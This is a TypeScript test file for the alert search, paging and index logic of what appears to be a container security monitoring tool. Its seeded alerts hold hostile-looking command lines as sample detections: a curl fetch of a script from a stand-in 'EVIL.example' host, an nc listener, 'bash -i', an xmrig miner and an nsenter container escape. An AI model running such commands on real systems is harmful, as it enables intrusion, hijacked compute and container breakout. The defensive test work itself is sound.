import Database from "better-sqlite3";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import { Prisma } from "../generated/prisma/client";
import {
  type AlertListQueryInput,
  AlertListQuerySchema,
  countAlerts,
  groupAlerts,
  listAlerts,
  listQuerySql,
  planList,
} from "./alert-list";
import {
  planSearch,
  SEARCH_LIMITS,
  type SearchLimits,
  searchConditions,
  searchMatch,
  searchTerms,
} from "./alert-search";
import { prisma } from "./client";
import { createTestDatabase } from "./test-database";

const database = createTestDatabase();
process.env.DATABASE_URL = database.url;

const RANK = { low: 1, medium: 2, high: 3, critical: 4 } as const;
let sequence = 0;

interface Seed {
  severity?: keyof typeof RANK;
  riskScore?: number;
  status?: string;
  minute?: number;
  containerName?: string | null;
  hostName?: string | null;
  processName?: string | null;
  commandLine?: string | null;
  userName?: string | null;
}

async function seedAlert(seed: Seed = {}): Promise<string> {
  sequence += 1;
  const severity = seed.severity ?? "medium";
  const alert = await prisma().alert.create({
    data: {
      ruleId: "rule-shell",
      ruleName: "Interactive shell in container",
      severity,
      severityRank: RANK[severity],
      riskScore: seed.riskScore ?? 47,
      status: seed.status ?? "open",
      dedupKey: `search-${sequence}`,
      timestamp: new Date(Date.UTC(2026, 10, 20, 10, seed.minute ?? sequence)),
      containerId: "c-web",
      containerName: seed.containerName === undefined ? "web-1" : seed.containerName,
      hostName: seed.hostName === undefined ? "node-a" : seed.hostName,
      processName: seed.processName === undefined ? "bash" : seed.processName,
      commandLine: seed.commandLine ?? null,
      userName: seed.userName ?? null,
    },
  });
  return alert.id;
}

/** Many alerts in one statement (the triggers run per row), for the many-matches plan. */
async function seedMany(count: number, commandLine: string, status = "open"): Promise<void> {
  await prisma().$executeRaw`
    WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < ${count})
    INSERT INTO "Alert" ("id", "ruleId", "ruleName", "severity", "severityRank", "riskScore", "status",
      "dedupKey", "timestamp", "updatedAt", "hostName", "commandLine")
    SELECT 'bulk-' || i, 'rule-shell', 'Interactive shell in container', 'low', 1, i % 100, ${status},
      'bulk-' || i, strftime('%Y-%m-%dT%H:%M:%fZ', '2026-11-01', '+' || i || ' seconds'),
      CURRENT_TIMESTAMP, 'node-bulk', ${commandLine} || ' #' || i
    FROM n`;
}

/** FTS5's own check that the index holds exactly what the Alert rows say; throws when it does not. */
function checkIndex(): void {
  const db = new Database(database.file);
  try {
    db.prepare(`INSERT INTO "AlertSearch" ("AlertSearch") VALUES ('integrity-check')`).run();
  } finally {
    db.close();
  }
}

/** Rows the index alone (without the LIKE check) returns for a phrase. */
async function indexHits(text: string): Promise<number> {
  const rows = await prisma().$queryRaw<{ count: bigint | number }[]>`
    SELECT COUNT(*) AS "count" FROM "AlertSearch" WHERE "AlertSearch" MATCH ${searchMatch([text])}`;
  return Number(rows[0]?.count ?? 0);
}

const ids = (page: { items: { id: string }[] }) => page.items.map((item) => item.id);

beforeAll(async () => {
  await prisma().rule.create({
    data: {
      id: "rule-shell",
      name: "Interactive shell",
      description: "t",
      query: "q",
      severity: "high",
      riskScore: 73,
    },
  });
});
beforeEach(async () => {
  await prisma().alert.deleteMany();
});
afterAll(async () => {
  await prisma().$disconnect();
  database.cleanup();
});

describe("searchTerms and searchMatch", () => {
  it("splits on whitespace, drops duplicates, and quotes each long-enough term as a phrase", () => {
    expect(searchTerms("  nc  web-1 nc ")).toEqual(["nc", "web-1"]);
    expect(searchMatch(["nc", "web-1"])).toBe('"web-1"');
    expect(searchMatch(['say"hi', "50%", "my_x"])).toBe('"say""hi" AND "50%" AND "my_x"');
    expect(searchMatch(["nc", "ab"])).toBeNull();
    expect(searchMatch(["abc\u0000def"])).toBeNull();
    // three code points, even when one needs two UTF-16 units
    expect(searchMatch(["a😀b"])).toBe('"a😀b"');
  });
});

describe("free-text search through the trigram index", () => {
  it("finds a substring of any searched field, ignoring ASCII case, every term required", async () => {
    const curl = await seedAlert({
      processName: "curl",
      commandLine: "curl http://EVIL.example/x.sh",
      userName: "www",
    });
    const nc = await seedAlert({ processName: "nc", containerName: "payments-api", hostName: "node-z" });
    const shell = await seedAlert({ processName: "sh", userName: "root" });
    expect((await planSearch("evil.EXAMPLE")).kind).toBe("drive");
    expect(ids(await listAlerts({ q: "evil.EXAMPLE" }))).toEqual([curl]);
    expect(ids(await listAlerts({ q: "payments node-z" }))).toEqual([nc]);
    expect(ids(await listAlerts({ q: "payments root" }))).toEqual([]);
    expect(ids(await listAlerts({ q: "root" }))).toEqual([shell]);
    expect(ids(await listAlerts({ q: "no-such-text-anywhere" }))).toEqual([]);
    expect(await countAlerts({ q: "container" })).toBe(3);
    expect(await countAlerts({ q: "ayments-a" })).toBe(1);
  });

  it("keeps LIKE's meaning where the index is broader: only ASCII letters ignore case", async () => {
    const accented = await seedAlert({ commandLine: "touch /srv/école" });
    expect(await indexHits("ÉCOLE")).toBe(1);
    expect(ids(await listAlerts({ q: "ÉCOLE" }))).toEqual([]);
    expect(ids(await listAlerts({ q: "école" }))).toEqual([accented]);
  });

  it("matches terms under three characters by LIKE alone, and mixes them with indexed ones", async () => {
    const nc = await seedAlert({ processName: "nc", commandLine: "nc -lvp 4444" });
    const bash = await seedAlert({ processName: "bash", commandLine: "bash -i" });
    expect((await planSearch("nc")).kind).toBe("scan");
    expect(ids(await listAlerts({ q: "nc" }))).toEqual([nc]);
    expect(ids(await listAlerts({ q: "-i" }))).toEqual([bash]);
    expect(ids(await listAlerts({ q: "lv", sort: "oldest" }))).toEqual([nc]);
    expect(ids(await listAlerts({ q: "nc 4444" }))).toEqual([nc]);
    expect(ids(await listAlerts({ q: "-i 4444" }))).toEqual([]);
    expect(await countAlerts({ q: "-i bash" })).toBe(1);
  });

  it("takes % _ \\ and quotes literally, in short and long terms", async () => {
    const percent = await seedAlert({ commandLine: "stress --cpu 100%" });
    const underscore = await seedAlert({ commandLine: "cat /etc/my_secret" });
    const backslash = await seedAlert({ commandLine: "echo a\\b" });
    const quoted = await seedAlert({ commandLine: 'sh -c "id"' });
    const words = await seedAlert({ commandLine: "cat /etc/myXsecret and 100 percent" });
    expect(ids(await listAlerts({ q: "100%" }))).toEqual([percent]);
    expect(ids(await listAlerts({ q: "%" }))).toEqual([percent]);
    expect(ids(await listAlerts({ q: "_" }))).toEqual([underscore]);
    expect(ids(await listAlerts({ q: "my_secret" }))).toEqual([underscore]);
    expect(ids(await listAlerts({ q: "a\\b" }))).toEqual([backslash]);
    expect(ids(await listAlerts({ q: '"id"' }))).toEqual([quoted]);
    // FTS5 query syntax means nothing inside the quoted phrase
    expect(ids(await listAlerts({ q: "AND" }))).toEqual([words]);
    expect(ids(await listAlerts({ q: "*" }))).toEqual([]);
    expect(ids(await listAlerts({ q: "my_\u0000secret" }))).toEqual([]);
  });

  it("combines with status and severity filters under every sort, and pages with the cursor", async () => {
    const wanted: string[] = [];
    for (let i = 0; i < 7; i += 1) {
      const id = await seedAlert({
        commandLine: `xmrig --pool p${i}`,
        status: i % 2 === 0 ? "open" : "closed",
        severity: i % 3 === 0 ? "critical" : "low",
        riskScore: 10 * i,
        minute: i,
      });
      if (i % 2 === 0 && i % 3 !== 0) wanted.push(id);
    }
    await seedAlert({ commandLine: "bash", status: "open", severity: "low" });
    const expected = {
      newest: [...wanted].reverse(),
      oldest: wanted,
      severity: [...wanted].reverse(),
      risk: [...wanted].reverse(),
    };
    for (const sort of ["newest", "oldest", "severity", "risk"] as const) {
      const filter = { q: "XMRIG", status: ["open"], severity: ["low"], sort };
      expect(ids(await listAlerts(filter)), sort).toEqual(expected[sort]);
      const first = await listAlerts({ ...filter, limit: 1 });
      const rest = await listAlerts({ ...filter, limit: 5, cursor: first.nextCursor ?? undefined });
      expect([...ids(first), ...ids(rest)], sort).toEqual(expected[sort]);
      expect(rest.nextCursor).toBeNull();
    }
    expect(await countAlerts({ q: "xmrig", status: ["open"] })).toBe(4);
    expect(await groupAlerts({ q: "xmrig --pool", status: ["closed"] }, "host")).toEqual([
      { key: "node-a", label: "node-a", count: 3 },
    ]);
  });

  it("plans by how many alerts a term matches, with the same results", async () => {
    await seedMany(SEARCH_LIMITS.counting.drive + 5, "miner");
    const rare = await seedAlert({ commandLine: "miner --special", status: "closed", minute: 1 });
    expect((await planSearch("miner")).kind).toBe("filter");
    expect((await planSearch("miner", { drive: 10, member: 100, memberForSeveralTerms: true })).kind).toBe("filter");
    expect((await planSearch("miner bulk", SEARCH_LIMITS.byTime)).kind).toBe("filter");
    expect((await planSearch("miner node-bulk", SEARCH_LIMITS.byRank)).kind).toBe("member");
    expect((await planSearch("special")).kind).toBe("drive");
    const page = await listAlerts({ q: "MINER", limit: 3 });
    expect(page.items.map((item) => item.commandLine)).toEqual([
      "miner --special",
      `miner #${SEARCH_LIMITS.counting.drive + 5}`,
      `miner #${SEARCH_LIMITS.counting.drive + 4}`,
    ]);
    expect(ids(await listAlerts({ q: "miner", status: ["closed"] }))).toEqual([rare]);
    // sorted by risk, the match set is read once and the risk index walked against it
    expect((await planSearch("miner", SEARCH_LIMITS.byRank)).kind).toBe("member");
    expect((await planSearch("miner", SEARCH_LIMITS.byTime)).kind).toBe("member");
    const byRisk = await listAlerts({ q: "miner", sort: "risk", limit: 3 });
    expect(byRisk.items.map((item) => item.commandLine)).toEqual(["miner #3999", "miner #3899", "miner #3799"]);
    const next = await listAlerts({ q: "miner", sort: "risk", limit: 2, cursor: byRisk.nextCursor ?? undefined });
    expect(next.items.map((item) => item.commandLine)).toEqual(["miner #3699", "miner #3599"]);
    expect(ids(await listAlerts({ q: "miner special", sort: "severity" }))).toEqual([rare]);
    expect(ids(await listAlerts({ q: "miner", status: ["closed"], sort: "risk" }))).toEqual([rare]);
    expect(ids(await listAlerts({ q: "miner special" }))).toEqual([rare]);
    expect(await countAlerts({ q: "miner" })).toBe(SEARCH_LIMITS.counting.drive + 6);
    // #12, #120–#129, #1200–#1299
    expect(await countAlerts({ q: "miner #12" })).toBe(1 + 10 + 100);
    expect(await groupAlerts({ q: "miner", status: ["open"] }, "host")).toEqual([
      { key: "node-bulk", label: "node-bulk", count: SEARCH_LIMITS.counting.drive + 5 },
    ]);
  });
});

describe("every search plan returns the same pages", () => {
  const FORCE: Record<string, SearchLimits> = {
    drive: { drive: 1e9, member: 0, memberForSeveralTerms: false },
    member: { drive: 0, member: 1e9, memberForSeveralTerms: true },
    filter: { drive: 0, member: 0, memberForSeveralTerms: false },
  };

  async function pages(input: AlertListQueryInput, kind: string): Promise<string[]> {
    const seen: string[] = [];
    let cursor: string | undefined;
    for (let page = 0; page < 20; page += 1) {
      const query = AlertListQuerySchema.parse({ ...input, limit: 4, cursor });
      const limits = FORCE[kind];
      const search =
        limits === undefined
          ? { kind: "scan" as const, conditions: searchConditions(searchTerms(query.q)) }
          : await planSearch(query.q, limits);
      if (limits !== undefined) expect(search.kind).toBe(kind);
      const rows = await prisma().$queryRaw<{ id: string; severityRank: number; riskScore: number; timestamp: Date }[]>(
        listQuerySql(query, { search, narrowingIndex: null }),
      );
      seen.push(...rows.slice(0, 4).map((row) => row.id));
      if (rows.length <= 4) return seen;
      cursor = (await listAlerts({ ...input, limit: 4, cursor })).nextCursor ?? undefined;
    }
    throw new Error("more pages than seeded alerts");
  }

  it("drive, member, filter and LIKE alone agree under every sort, filter and page", async () => {
    for (let i = 0; i < 24; i += 1) {
      await seedAlert({
        commandLine: i % 3 === 0 ? `xmrig --pool p${i % 5}` : `curl http://x${i}.example`,
        status: ["open", "closed", "acknowledged"][i % 3],
        severity: (["low", "medium", "high", "critical"] as const)[i % 4],
        riskScore: [21, 47, 73, 99][(i * 7) % 4],
        minute: i % 6, // shared timestamps: the id breaks ties
        hostName: i % 2 === 0 ? "node-a" : "node-b",
      });
    }
    const inputs: AlertListQueryInput[] = [
      { q: "xmrig" },
      { q: "example", sort: "oldest" as const },
      { q: "XMRIG --pool", sort: "severity" as const },
      { q: "example", sort: "risk" as const, status: ["open", "closed"] },
      { q: "node-a xmrig", severity: ["low", "critical"] },
      { q: "example", severity: ["high"], sort: "severity" as const, host: "node-a" },
    ];
    for (const input of inputs) {
      const expected = await pages(input, "scan");
      expect(expected.length, JSON.stringify(input)).toBeGreaterThan(0);
      for (const kind of Object.keys(FORCE)) {
        expect(await pages(input, kind), `${kind} ${JSON.stringify(input)}`).toEqual(expected);
      }
    }
  });
});

describe("the index follows every write to Alert", () => {
  it("updates and deletes, through Prisma and raw SQL", async () => {
    const id = await seedAlert({ commandLine: "wget http://old.example" });
    const other = await seedAlert({ commandLine: "wget http://old.example/2" });
    await prisma().alert.update({ where: { id }, data: { commandLine: "wget http://new.example" } });
    expect(ids(await listAlerts({ q: "new.example" }))).toEqual([id]);
    expect(ids(await listAlerts({ q: "old.example" }))).toEqual([other]);
    expect(await indexHits("old.example")).toBe(1);
    // an update of columns the index does not hold leaves it alone
    await prisma().alert.update({ where: { id }, data: { status: "closed", version: { increment: 1 } } });
    checkIndex();
    await prisma().alert.delete({ where: { id: other } });
    expect(await indexHits("old.example")).toBe(0);
    await prisma().$executeRaw`DELETE FROM "Alert" WHERE "id" = ${id}`;
    expect(await indexHits("example")).toBe(0);
    checkIndex();
  });

  it("follows alerts deleted by the cascade when their rule is deleted", async () => {
    await prisma().rule.create({
      data: { id: "rule-gone", name: "Gone", description: "t", query: "q", severity: "low", riskScore: 21 },
    });
    const kept = await seedAlert({ commandLine: "cascade-test kept" });
    await prisma().alert.update({
      where: { id: await seedAlert({ commandLine: "x" }) },
      data: { ruleId: "rule-gone" },
    });
    await prisma().alert.create({
      data: {
        ruleId: "rule-gone",
        ruleName: "Gone",
        severity: "low",
        severityRank: 1,
        riskScore: 21,
        dedupKey: "cascade-1",
        timestamp: new Date(),
        commandLine: "cascade-test gone",
      },
    });
    expect(await countAlerts({ q: "cascade-test" })).toBe(2);
    expect(await groupAlerts({}, "rule")).toEqual([
      { key: "rule-gone", label: "Gone", count: 2 },
      { key: "rule-shell", label: "Interactive shell", count: 1 },
    ]);
    await prisma().rule.delete({ where: { id: "rule-gone" } });
    expect(ids(await listAlerts({ q: "cascade-test" }))).toEqual([kept]);
    expect(await indexHits("cascade-test")).toBe(1);
    expect(await groupAlerts({}, "rule")).toEqual([{ key: "rule-shell", label: "Interactive shell", count: 1 }]);
    checkIndex();
  });

  it("indexes a row written by a direct prepared INSERT … ON CONFLICT DO NOTHING, as ingest writes alerts", async () => {
    const db = new Database(database.file);
    try {
      const insert = db.prepare(
        `INSERT INTO "Alert" ("id", "ruleId", "ruleName", "severity", "severityRank", "riskScore", "status",
           "dedupKey", "timestamp", "createdAt", "updatedAt", "containerName", "processName", "commandLine")
         VALUES (?, 'rule-shell', 'Interactive shell', 'high', 3, 73, 'open', ?, ?, ?, ?, 'ingested-7', 'nsenter', ?)
         ON CONFLICT ("dedupKey") DO NOTHING`,
      );
      const now = new Date().toISOString();
      insert.run("ingested-a", "dedup-ingested", now, now, now, "nsenter -t 1 -m");
      // a duplicate detection changes nothing, the index included
      insert.run("ingested-b", "dedup-ingested", now, now, now, "nsenter --duplicate");
    } finally {
      db.close();
    }
    expect(ids(await listAlerts({ q: "nsenter -t" }))).toEqual(["ingested-a"]);
    expect(ids(await listAlerts({ q: "ingested-7" }))).toEqual(["ingested-a"]);
    expect(await indexHits("--duplicate")).toBe(0);
    checkIndex();
  });
});

describe("query plans", () => {
  async function plan(input: Parameters<typeof AlertListQuerySchema.parse>[0]): Promise<string[]> {
    const query = AlertListQuerySchema.parse(input);
    const sql = listQuerySql(query, await planList(query));
    const rows = await prisma().$queryRaw<{ detail: string }[]>(Prisma.sql`EXPLAIN QUERY PLAN ${sql}`);
    return rows.map((row) => row.detail);
  }

  it("reads a rare term's matches from the index and fetches each alert by rowid", async () => {
    await seedAlert({ commandLine: "xmrig" });
    const details = await plan({ q: "xmrig", status: ["open"], sort: "risk" });
    expect(details[0]).toMatch(/^SCAN \w+ VIRTUAL TABLE/);
    expect(details).toContain("SEARCH a USING INTEGER PRIMARY KEY (rowid=?)");
  });

  it("tests a common term's matches against the rank index's entries instead of fetching each", async () => {
    await seedMany(SEARCH_LIMITS.counting.drive + 1, "xmrig");
    const details = await plan({ q: "xmrig", sort: "risk" });
    expect(details[0]).toMatch(/^SCAN a USING INDEX Alert_riskScore_timestamp_idx/);
    expect(details.join("\n")).toContain("LIST SUBQUERY");
    expect(details.join("\n")).not.toContain("INTEGER PRIMARY KEY");
  });

  it("reads a severity sort over chosen severities from the (severityRank, timestamp) index, one branch each", async () => {
    const details = await plan({ severity: ["low", "high"], sort: "severity" });
    const searches = details.filter((detail) => detail.includes("Alert_severityRank_timestamp_idx (severityRank=?)"));
    expect(searches).toHaveLength(2);
    expect(details.filter((detail) => /^SCAN a\b/.test(detail))).toEqual([]);
  });
});

describe("rank sorts led by a small filter", () => {
  async function plan(input: Parameters<typeof AlertListQuerySchema.parse>[0]): Promise<string[]> {
    const query = AlertListQuerySchema.parse(input);
    const rows = await prisma().$queryRaw<{ detail: string }[]>(
      Prisma.sql`EXPLAIN QUERY PLAN ${listQuerySql(query, await planList(query))}`,
    );
    return rows.map((row) => row.detail);
  }

  it("reads a container, host or time range with few alerts from its own index, and pages the same", async () => {
    const made: { id: string; risk: number; minute: number; host: string }[] = [];
    for (let i = 0; i < 6; i += 1) {
      const risk = [21, 99, 47, 99, 73, 21][i] as number;
      const host = i < 3 ? "node-small" : "node-a";
      made.push({ id: await seedAlert({ riskScore: risk, minute: i, hostName: host }), risk, minute: i, host });
    }
    const byRisk = (rows: typeof made) =>
      [...rows].sort((a, b) => b.risk - a.risk || b.minute - a.minute).map((row) => row.id);
    expect((await plan({ host: "node-small", sort: "risk" })).join("\n")).toContain("Alert_hostName_timestamp_idx");
    expect(ids(await listAlerts({ host: "node-small", sort: "risk" }))).toEqual(
      byRisk(made.filter((row) => row.host === "node-small")),
    );
    const from = new Date(Date.UTC(2026, 10, 20, 10, 1)).toISOString();
    const to = new Date(Date.UTC(2026, 10, 20, 10, 4)).toISOString();
    expect((await plan({ from, to, sort: "severity" })).join("\n")).toContain("Alert_timestamp_idx");
    const inRange = byRisk(made.filter((row) => row.minute >= 1 && row.minute <= 4));
    const first = await listAlerts({ from, to, sort: "risk", limit: 2 });
    const rest = await listAlerts({ from, to, sort: "risk", limit: 2, cursor: first.nextCursor ?? undefined });
    expect([...ids(first), ...ids(rest)]).toEqual(inRange);
    expect(rest.nextCursor).toBeNull();
    // a time sort keeps its (x, timestamp) indexes
    expect((await plan({ host: "node-small" })).join("\n")).not.toContain("INDEXED");
  });

  it("reads one rule's alerts by risk or severity from the rule's own ordered index", async () => {
    for (const sort of ["risk", "severity"] as const) {
      const details = (await plan({ rule: "rule-shell", sort })).join("\n");
      expect(details, sort).toMatch(/Alert_ruleId_(riskScore|severityRank)_timestamp_idx \(ruleId=\?\)/);
      expect(details, sort).not.toMatch(/TEMP B-TREE FOR ORDER BY/);
    }
  });
});

describe("totals and groups from the kept counts (AlertGroupCount)", () => {
  // A filter that matches every alert but is not "statuses only", so it is counted from the alerts.
  const everything = { from: new Date(0).toISOString() };

  async function expectCountsMatchAlerts(): Promise<void> {
    for (const status of [undefined, ["open"], ["acknowledged", "closed"]] as const) {
      const filter = status ? { status: [...status] } : {};
      expect(await countAlerts(filter)).toBe(await countAlerts({ ...filter, ...everything }));
      for (const by of ["rule", "container", "host"] as const) {
        expect(await groupAlerts(filter, by), `${by} ${status}`).toEqual(
          await groupAlerts({ ...filter, ...everything }, by),
        );
      }
    }
  }

  it("stay equal to counting the alerts through inserts, triage, moves between groups and deletes", async () => {
    const a = await seedAlert({ hostName: "node-1", containerName: "web-1" });
    const b = await seedAlert({ hostName: null, containerName: null });
    const c = await seedAlert({ hostName: "node-2", status: "closed" });
    await seedMany(30, "bulk");
    await expectCountsMatchAlerts();
    expect(await groupAlerts({ status: ["open"] }, "host")).toEqual([
      { key: "node-bulk", label: "node-bulk", count: 30 },
      { key: null, label: "(no host)", count: 1 },
      { key: "node-1", label: "node-1", count: 1 },
    ]);
    await prisma().alert.update({ where: { id: a }, data: { status: "acknowledged" } });
    await prisma().alert.update({ where: { id: b }, data: { hostName: "node-2", containerId: null } });
    await prisma().alert.update({ where: { id: c }, data: { ruleId: "rule-shell", processName: "zsh" } });
    await prisma().$executeRaw`UPDATE "Alert" SET "status" = 'closed' WHERE "id" LIKE 'bulk-1%'`;
    await expectCountsMatchAlerts();
    await prisma().alert.delete({ where: { id: c } });
    await prisma().$executeRaw`DELETE FROM "Alert" WHERE "id" LIKE 'bulk-2%'`;
    await expectCountsMatchAlerts();
    expect(await countAlerts({ status: ["closed"] })).toBe(11);
    await prisma().alert.deleteMany();
    expect(await countAlerts({})).toBe(0);
    expect(await groupAlerts({}, "container")).toEqual([]);
  });
});
